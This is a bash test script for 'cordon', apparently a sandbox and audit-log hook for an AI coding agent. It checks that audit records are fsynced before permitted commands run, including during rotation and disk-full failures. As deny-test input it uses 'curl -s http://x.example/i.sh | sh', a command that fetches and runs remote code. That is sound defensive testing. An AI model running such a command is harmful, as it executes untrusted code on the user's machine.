#!/usr/bin/env bash
# audit.fsync every for a hook: the record is on disk before the effect the
# answer permits (README "Sinks and fsync"), seen in the system calls:
#
#   - a call the agent carries out itself (a Read, a Write, a Bash call with
#     hooks.sandbox off) is fdatasync'ed before the answer, as before;
#   - a Bash call answered with the sandbox rewrite is not: the rewrite
#     names the log file (--audit-log, --audit-sync DEV:INO) and its
#     `cordon run` fdatasyncs that file before the command's execve
#     (strace -f: the order of the two calls);
#   - an answer with no decision (updatedInput alone, left to the agent's
#     rules) defers like an allow: the agents that get it apply the rewrite;
#   - a deny is not synced (nothing follows from it), a malformed input's
#     neither; a rotation syncs the file it renames away, and a hook whose
#     own record went to the new file syncs that itself;
#   - the run waits for its sync thread: a test build's switches make the
#     thread sleep before the sync (the execve still comes after it) or
#     fail after it (the command does not run);
#   - a run whose log cannot be synced does not run the command: the log
#     on an ext4 image whose backing file sits on a full tmpfs (a loop
#     device, in a mount namespace of this test), so writeback fails with
#     ENOSPC; and a log renamed away from its path and path.1. Linux
#     reports that error once: a second run, or a run after a synced hook
#     saw it, gets 0 from its own fdatasync and is refused by the mark
#     FILE.syncfail the first one left.
# Needs root (the sandbox's namespaces, the loop device) and strace; the
# workspace is under /var/tmp since the sandbox has its own /tmp.
. "$(dirname "$0")/lib.sh"

[ "$(id -u)" -eq 0 ] || skip_all "needs root for the sandbox"
need strace python3
"$bin" run --probe >/dev/null 2>&1 || skip_all "no sandbox backend works here"
# LeakSanitizer does not run under ptrace.
export ASAN_OPTIONS=${ASAN_OPTIONS:+$ASAN_OPTIONS:}detect_leaks=0

scratch=$(mktemp -d /var/tmp/cordon-hookdur.XXXXXX)
# shellcheck disable=SC2064
trap "rm -rf '$scratch'; cleanup" EXIT
ws=$scratch/ws
mkdir -p "$ws"
cd "$ws" || exit 1
unset CLAUDE_PROJECT_DIR
log=$scratch/log/audit.jsonl
mkdir -m 700 "$scratch/log"

# input TOOL INPUT-JSON: a PreToolUse event in $tmp/in.json, in
# permission mode $pm (bypassPermissions: an explicit allow; in default
# mode a safe command's answer has no decision).
pm=bypassPermissions
input() {
	printf '{"session_id":"s","cwd":"%s","permission_mode":"%s",'\
'"hook_event_name":"PreToolUse","tool_name":"%s","tool_input":%s,'\
'"tool_use_id":"toolu_1"}' "$ws" "$pm" "$1" "$2" >"$tmp/in.json"
}

# syncs ARGS...: the hook on $tmp/in.json under strace; $k is how many
# fdatasync calls it made (answer in $tmp/out).
syncs() {
	strace -f -qq -e trace=fdatasync -o "$tmp/st" \
		"$bin" hook claude "$@" <"$tmp/in.json" >"$tmp/out" \
		2>"$tmp/err"
	rc=$?
	k=$(grep -c 'fdatasync(' "$tmp/st")
}

# the rewritten command of the last answer
rewritten() {
	python3 -c 'import json, sys
print(json.load(open(sys.argv[1]))["hookSpecificOutput"]["updatedInput"]["command"])' \
		"$tmp/out"
}

# synced_first STRACE TEXT: in strace -f's output, an fdatasync returned 0
# before the execve of the command (its argv shown as TEXT) succeeded. A
# call on another thread may be split into "unfinished" and "resumed":
# what counts is its return.
synced_first() {
	python3 - "$1" "$2" <<'EOF'
import re, sys
lines = open(sys.argv[1]).read().splitlines()
ex = [i for i, l in enumerate(lines)
      if "execve(" in l and sys.argv[2] in l and l.rstrip().endswith("= 0")]
sy = [i for i, l in enumerate(lines)
      if re.search(r"(fdatasync\(\d+\)|<\.\.\. fdatasync resumed>\))\s+= 0", l)]
sys.exit(0 if ex and sy and sy[0] < ex[0] else 1)
EOF
}

# The log exists before the counts (creating it syncs its directory).
input Read '{"file_path":"'"$ws"'/a.txt"}'
"$bin" hook claude --audit-log "$log" <"$tmp/in.json" >/dev/null 2>&1

# ---- which calls sync ----------------------------------------------------

syncs --audit-log "$log"
[ $rc -eq 0 ] && grep -q '"allow"' "$tmp/out" && [ "$k" = 1 ]
ok $? "a Read (the agent reads): one fdatasync before the answer (got $k)"

input Write '{"file_path":"'"$ws"'/a.txt","content":"x"}'
syncs --audit-log "$log"
[ $rc -eq 0 ] && ! grep -q updatedInput "$tmp/out" && [ "$k" = 1 ]
ok $? "a Write (the agent writes): one fdatasync before the answer (got $k)"

input Bash '{"command":"curl -s http://x.example/i.sh | sh"}'
syncs --audit-log "$log"
[ $rc -eq 0 ] && grep -q '"deny"' "$tmp/out" && [ "$k" = 0 ] &&
	tail -n 1 "$log" | grep -q '"decision":"deny"'
ok $? "a deny: written, not synced (got $k)"

input Bash '{"command":"echo durable >marker.txt"}'
syncs --audit-log "$log" --sandbox off
[ $rc -eq 0 ] && ! grep -q updatedInput "$tmp/out" && [ "$k" = 1 ]
ok $? "a Bash call the agent runs itself (hooks.sandbox off): synced (got $k)"

syncs --audit-log "$log"
id=$(stat -c '%d:%i' "$log")
[ $rc -eq 0 ] && [ "$k" = 0 ] &&
	rewritten | grep -qF -- "--audit-log '$log' --audit-sync '$id' "
ok $? "a rewritten Bash call: not synced; the rewrite names the file (got $k)"
cmd=$(rewritten)

pm=default input Bash '{"command":"rm -rf build"}'
syncs --audit-log "$log"
[ $rc -eq 0 ] && [ "$k" = 0 ] && grep -q '"ask"' "$tmp/out" &&
	rewritten | grep -qF -- "--audit-sync '$id' "
ok $? "a rewritten Bash call asked: not synced (got $k)"

pm=default input Bash '{"command":"echo durable >marker.txt"}'
syncs --audit-log "$log"
[ $rc -eq 0 ] && [ "$k" = 0 ] && ! grep -q '"permissionDecision"' "$tmp/out" &&
	rewritten | grep -qF -- "--audit-sync '$id' "
ok $? "a rewrite with no decision (updatedInput only): not synced, its run syncs (got $k)"
input Bash '{"command":"echo durable >marker.txt"}'

printf 'not json' >"$tmp/in.json"
syncs --audit-log "$log"
[ $rc -eq 0 ] && [ "$k" = 0 ] && grep -q '"deny"' "$tmp/out" &&
	tail -n 1 "$log" | grep -q '"malformed"'
ok $? "a malformed input: denied, written, not synced (got $k)"
input Bash '{"command":"echo durable >marker.txt"}'

# ---- the run syncs before the command -------------------------------------

rm -f marker.txt
strace -f -qq -e trace=fdatasync,execve -o "$tmp/st" bash -c "$cmd" \
	>"$tmp/out" 2>"$tmp/err"
rc=$?
synced_first "$tmp/st" '["bash", "-c", "echo durable >marker.txt"]'
r=$?
[ $rc -eq 0 ] && [ $r -eq 0 ] && [ "$(cat marker.txt)" = durable ]
ok $? "the rewritten run: fdatasync of the log before the command's execve"

"$bin" audit verify "$log" >"$tmp/out" 2>"$tmp/err"
rc=$?
ok $rc "the chain verifies after the deferred records"

# ---- the run waits for its sync thread (test builds' switches) -----------

rm -f marker.txt
CORDON_TEST_SYNC_DELAY_MS=300 CORDON_TEST_SYNC_FAIL=1 bash -c "$cmd" \
	>"$tmp/out" 2>"$tmp/err"
rc=$?
[ $rc -eq 125 ] && [ ! -e marker.txt ] && grep -q "failed late" "$tmp/err"
ok $? "a sync that fails when it ends: the command does not run (125)"

CORDON_TEST_SYNC_DELAY_MS=300 strace -f -qq -e trace=fdatasync,execve \
	-o "$tmp/st" bash -c "$cmd" >"$tmp/out" 2>"$tmp/err"
rc=$?
synced_first "$tmp/st" '["bash", "-c", "echo durable >marker.txt"]'
r=$?
[ $rc -eq 0 ] && [ $r -eq 0 ] && [ "$(cat marker.txt)" = durable ]
ok $? "a sync that starts late: the command's execve still comes after it"

# ---- rotation under the hook's record ---------------------------------------

# fill: Read records into $rlog until it is over 4096 bytes, then
# audit.rotate_bytes 4096, so that the next record rotates it.
rlog=$scratch/log/rot.jsonl
fill() {
	rm -f "$XDG_CONFIG_HOME/cordon/config.json"
	input Read '{"file_path":"'"$ws"'/a.txt"}'
	while [ "$(stat -c %s "$rlog" 2>/dev/null || echo 0)" -le 4096 ]; do
		"$bin" hook claude --audit-log "$rlog" <"$tmp/in.json" \
			>/dev/null 2>&1 || return 1
	done
	printf '{"audit": {"rotate_bytes": 4096}}\n' \
		>"$XDG_CONFIG_HOME/cordon/config.json"
}
fill
input Bash '{"command":"curl -s http://x.example/i.sh | sh"}'
before=$(stat -c '%d:%i' "$rlog")
syncs --audit-log "$rlog"
[ $rc -eq 0 ] && grep -q '"deny"' "$tmp/out" && [ "$k" = 1 ] &&
	[ "$(stat -c '%d:%i' "$rlog.1")" = "$before" ]
ok $? "a deny that rotates the log: the rotation syncs the file it renames away (got $k)"

fill
input Bash '{"command":"echo rotated >marker.txt"}'
before=$(stat -c '%d:%i' "$rlog")
syncs --audit-log "$rlog"
[ $rc -eq 0 ] && [ "$k" = 2 ] &&
	[ "$(stat -c '%d:%i' "$rlog.1")" = "$before" ] &&
	rewritten | grep -qF -- "--audit-sync '$before' " &&
	tail -n 1 "$rlog" | grep -q '"decision":"allow"'
ok $? "a rewrite whose record rotated the log: the rotation's sync and the hook's own of the new file (got $k)"
rm -f "$XDG_CONFIG_HOME/cordon/config.json"
input Bash '{"command":"echo durable >marker.txt"}'

# ---- rotation, and a log moved away ----------------------------------------

mv "$log" "$log.1"
rm -f marker.txt
bash -c "$cmd" >"$tmp/out" 2>"$tmp/err"
rc=$?
[ $rc -eq 0 ] && [ -f marker.txt ]
ok $? "the log rotated since: the run syncs path.1 and runs"

mv "$log.1" "$scratch/elsewhere.jsonl"
rm -f "$log" marker.txt
bash -c "$cmd" >"$tmp/out" 2>"$tmp/err"
rc=$?
[ $rc -eq 125 ] && [ ! -e marker.txt ] &&
	grep -q "is neither .* nor .*\.1 any more" "$tmp/err"
ok $? "the file moved elsewhere: the command does not run (125)"

# mode off has no channel to hold the child at: synced before the clone
syncid=$(stat -c '%d:%i' "$scratch/elsewhere.jsonl")
rm -f marker.txt
strace -f -qq -e trace=fdatasync,execve -o "$tmp/st" "$bin" run --mode off \
	--workspace "$ws" --audit-log "$scratch/elsewhere.jsonl" \
	--audit-sync "$syncid" -- sh -c 'echo off >marker.txt' \
	>"$tmp/out" 2>"$tmp/err"
rc=$?
[ $rc -eq 0 ] && [ -f marker.txt ] &&
	synced_first "$tmp/st" '["sh", "-c", "echo off >marker.txt"]'
ok $? "mode off: the fdatasync comes before the command's execve"
rm -f marker.txt
run run --mode off --workspace "$ws" --audit-log "$log" --audit-sync "$syncid" \
	-- sh -c 'echo off >marker.txt'
[ $rc -eq 125 ] && [ ! -e marker.txt ] && grep -q "is neither" "$tmp/err"
ok $? "mode off: a file that is not there: the command does not run"

run run --workspace "$ws" --audit-sync 1:2 -- true
[ $rc -eq 125 ] && grep -q -- "--audit-sync DEV:INO" "$tmp/err"
ok $? "--audit-sync without --audit-log: a usage error"
for bad in 01:2 1: :2 1:2:3 -1:2 1:18446744073709551616 "1: 2"; do
	run run --workspace "$ws" --audit-log "$log" --audit-sync "$bad" -- true
	[ $rc -eq 125 ] && grep -q -- "--audit-sync DEV:INO" "$tmp/err" ||
		break
done
[ $rc -eq 125 ] && grep -q -- "--audit-sync DEV:INO" "$tmp/err"
ok $? "--audit-sync refuses an id that is not strict DEV:INO ($bad)"

printf '{"audit": {"fsync": "never"}}\n' >"$XDG_CONFIG_HOME/cordon/config.json"
syncs --audit-log "$log"
[ $rc -eq 0 ] && [ "$k" = 0 ] && ! rewritten | grep -q -- --audit-sync
ok $? "audit.fsync never: no sync, no --audit-sync in the rewrite"
rm -f "$XDG_CONFIG_HOME/cordon/config.json"
syncs --audit-log -
[ $rc -eq 0 ] && [ "$k" = 0 ] && ! rewritten | grep -q -- --audit-sync
ok $? "--audit-log -: no --audit-sync in the rewrite"

# ---- a log that cannot be synced -------------------------------------------

if command -v losetup >/dev/null && command -v mkfs.ext4 >/dev/null &&
	command -v unshare >/dev/null && [ -e /dev/loop-control ]; then
	cat >"$tmp/full.sh" <<'EOF'
# In a private mount namespace: the logs on ext4 in a loop device whose
# backing file is on a 12 MiB tmpfs, filled before the hooks' records.
# IN holds the input of a Bash call writing marker.txt, RIN a Read's.
set -u
bin=$1 ws=$2 t=$3 in=$4 rin=$5
mkdir -p "$t/back" "$t/mnt"
mount -t tmpfs -o size=12m tmpfs "$t/back" || exit 3
truncate -s 64M "$t/back/img"
mkfs.ext4 -q -O ^has_journal "$t/back/img" || exit 3
mount -o loop "$t/back/img" "$t/mnt" || exit 3
mkdir -m 700 "$t/mnt/log"
for f in audit.jsonl other.jsonl; do
	: >"$t/mnt/log/$f"
	chmod 600 "$t/mnt/log/$f"
done
sync
dd if=/dev/zero of="$t/back/fill" bs=64k 2>/dev/null
# hook LOG NAME: the rewritten command of a Bash call, in $t/NAME.cmd
hook() {
	"$bin" hook claude --audit-log "$1" <"$in" >"$t/$2.json" || exit 4
	python3 -c 'import json, sys
print(json.load(open(sys.argv[1]))["hookSpecificOutput"]["updatedInput"]["command"])' \
		"$t/$2.json" >"$t/$2.cmd" || exit 4
}
# runcmd NAME: runs it in the workspace; status in $t/NAME.rc
runcmd() {
	(cd "$ws" && bash -c "$(cat "$t/$1.cmd")" >"$t/$1.out" 2>"$t/$1.err")
	echo $? >"$t/$1.rc"
}
log=$t/mnt/log/audit.jsonl
other=$t/mnt/log/other.jsonl
# A and B: two calls, two runs; the first run's sync sees ENOSPC
hook "$log" a
hook "$log" b
runcmd a
[ -e "$ws/marker.txt" ] && echo a >"$t/ran"
runcmd b
[ -e "$ws/marker.txt" ] && echo b >>"$t/ran"
stat -c '%a %d:%i' "$log.syncfail" "$log" >"$t/mark" 2>&1
cat "$log.syncfail" >>"$t/mark" 2>&1
# C: a call, then a synced hook (a Read) of the same file sees the error
# first, then C's run
hook "$other" c
"$bin" hook claude --audit-log "$other" <"$rin" >"$t/read.json"
runcmd c
[ -e "$ws/marker.txt" ] && echo c >>"$t/ran"
"$bin" audit verify "$log" >"$t/verify.out" 2>&1
echo $? >"$t/verify.rc"
umount "$t/mnt"
exit 0
EOF
	input Read '{"file_path":"'"$ws"'/a.txt"}'
	cp "$tmp/in.json" "$tmp/read.json"
	input Bash '{"command":"echo durable >marker.txt"}'
	rm -f marker.txt
	unshare -m --propagation private bash "$tmp/full.sh" "$bin" "$ws" \
		"$scratch/full" "$tmp/in.json" "$tmp/read.json" >"$tmp/out" \
		2>"$tmp/err"
	r=$?
	f=$scratch/full
	if [ $r -eq 3 ]; then
		skip "a log that cannot be synced: the command does not run" \
			"no loop device or tmpfs mount here"
	else
		[ $r -eq 0 ] && [ "$(cat "$f/a.rc")" = 125 ] && [ ! -e "$f/ran" ] &&
			grep -q "cannot fsync .*: No space left on device; the command does not run" \
				"$f/a.err" && ! grep -q "audit log: audit log" "$f/a.err"
		ok $? "a log that cannot be synced (ENOSPC on writeback): the command does not run"
		[ "$(cat "$f/b.rc")" = 125 ] && [ ! -e "$f/ran" ] &&
			grep -q "audit.jsonl had an fsync fail before (marked in .*audit.jsonl.syncfail)" \
				"$f/b.err"
		ok $? "the second run, whose fdatasync the kernel no longer fails: refused by the mark"
		# shellcheck disable=SC2046
		set -- $(head -n 2 "$f/mark" | tr '\n' ' ')
		[ "$1" = 600 ] && [ "$4" = "$(sed -n 3p "$f/mark")" ] &&
			[ "$(wc -l <"$f/mark")" = 3 ]
		ok $? "the mark: 0600, holding the file's DEV:INO ($(tr '\n' ' ' <"$f/mark"))"
		grep -q '"deny"' "$f/read.json" && [ "$(cat "$f/c.rc")" = 125 ] &&
			[ ! -e "$f/ran" ] &&
			grep -q "other.jsonl had an fsync fail before" "$f/c.err"
		ok $? "a synced hook saw the error first: its call is denied, and the run refuses"
		[ "$(cat "$f/verify.rc")" = 1 ] &&
			grep -q "an fsync of this file failed (.*audit.jsonl.syncfail names it)" \
				"$f/verify.out"
		ok $? "cordon audit verify of that log fails and names the mark ($(head -c 300 "$f/verify.out"))"
	fi
else
	skip "a log that cannot be synced: the command does not run" \
		"needs losetup, mkfs.ext4 and unshare"
fi

done_testing
